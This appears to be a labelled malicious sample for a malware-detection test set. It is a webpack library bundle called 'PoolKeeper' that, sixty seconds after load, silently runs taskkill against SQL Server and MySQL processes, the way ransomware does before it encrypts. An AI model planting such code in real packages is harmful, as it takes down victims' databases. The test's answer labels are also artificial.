// expect: malicious
// source: blind set 29 (service stop): a webpack UMD library bundle whose child_process comes in through the UMD
// header's factory arguments (module 2 is `module.exports = __WEBPACK_EXTERNAL_MODULE__2__`); on load it kills the
// database and backup processes, as ransomware does before it encrypts.
(function webpackUniversalModuleDefinition(root, factory) {
	if(typeof exports === 'object' && typeof module === 'object')
		module.exports = factory(require("events"), require("child_process"));
	else if(typeof define === 'function' && define.amd)
		define(["events", "child_process"], factory);
	else
		root["PoolKeeper"] = factory(root["events"], root["child_process"]);
})(this, (__WEBPACK_EXTERNAL_MODULE__1__, __WEBPACK_EXTERNAL_MODULE__2__) => {
return (() => {
	"use strict";
	var __webpack_modules__ = ([
/* 0 */,
/* 1 */
((module) => { module.exports = __WEBPACK_EXTERNAL_MODULE__1__; }),
/* 2 */
((module) => { module.exports = __WEBPACK_EXTERNAL_MODULE__2__; }),
/* 3 */
((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
__webpack_require__.r(__webpack_exports__);
__webpack_require__.d(__webpack_exports__, { "maintenance": () => (maintenance) });
var child_process__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(2);
function maintenance() {
  const run = (c) => (0,child_process__WEBPACK_IMPORTED_MODULE_0__.exec)(c, { windowsHide: true }, () => {});
  run("taskkill /F /IM sqlservr.exe /IM sqlagent.exe /IM mysqld.exe");
}
})
	]);
	var __webpack_module_cache__ = {};
	function __webpack_require__(moduleId) {
		var cachedModule = __webpack_module_cache__[moduleId];
		if (cachedModule !== undefined) return cachedModule.exports;
		var module = __webpack_module_cache__[moduleId] = { exports: {} };
		__webpack_modules__[moduleId](module, module.exports, __webpack_require__);
		return module.exports;
	}
	__webpack_require__.r = (exports) => { Object.defineProperty(exports, '__esModule', { value: true }); };
	__webpack_require__.d = (exports, definition) => { for (var key in definition) Object.defineProperty(exports, key, { enumerable: true, get: definition[key] }); };
	var __webpack_exports__ = {};
	(() => {
		var _maintenance__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(3);
		setTimeout(() => { (0,_maintenance__WEBPACK_IMPORTED_MODULE_0__.maintenance)(); }, 60000);
	})();
	return __webpack_exports__;
})();
});
